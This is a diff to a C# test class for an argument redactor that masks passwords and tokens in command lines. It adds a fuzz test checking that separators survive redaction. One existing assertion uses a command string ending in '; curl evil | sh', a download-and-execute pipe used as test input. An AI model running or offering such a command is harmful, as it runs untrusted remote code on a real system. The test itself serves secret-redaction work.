@@ -113,4 +113,25 @@ public sealed class ArgumentRedactorTests
         string redacted = Assert.Single(RedactWith(new byte[64], command));
         Assert.Equal(string.Concat(Enumerable.Repeat("--pass=[REDACTED] ", 40)) + "; curl evil | sh", redacted);
     }
+
+    [Fact]
+    public void NoArgumentLosesASeparatorOrFailsToRedact()
+    {
+        // Whatever the bytes, only values go: every separator, and so every word boundary, is still there.
+        var redactor = new ArgumentRedactor();
+        byte[] alphabet = "--pass=x token=y :@/ ;&|<>()`'\" \t\nhttp://u:p@h?key=v -p 22 ab"u8.ToArray();
+        byte[] separators = " \t\n;&|<>()`"u8.ToArray();
+        var random = new Random(3);
+        byte[] scratch = new byte[48];
+        bool secretNext = false;
+        for (int n = 0; n < 20_000; n++)
+        {
+            byte[] arg = new byte[random.Next(0, 90)];
+            for (int i = 0; i < arg.Length; i++)
+                arg[i] = random.Next(5) == 0 ? (byte)random.Next(256) : alphabet[random.Next(alphabet.Length)];
+            ReadOnlySpan<byte> redacted = redactor.Redact(arg, ref secretNext, scratch);
+            foreach (byte separator in separators)
+                Assert.Equal(arg.AsSpan().Count(separator), redacted.Count(separator));
+        }
+    }
 }
